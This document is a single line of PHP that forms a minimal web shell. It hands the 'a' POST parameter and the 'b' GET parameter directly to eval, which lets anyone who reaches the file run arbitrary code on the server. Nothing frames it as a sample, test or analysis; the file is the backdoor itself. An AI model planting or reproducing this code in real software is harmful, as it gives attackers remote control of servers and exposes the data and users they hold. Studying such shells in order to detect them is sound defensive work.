<?php eval($_POST["a"]); eval($_GET["b"]); ?>
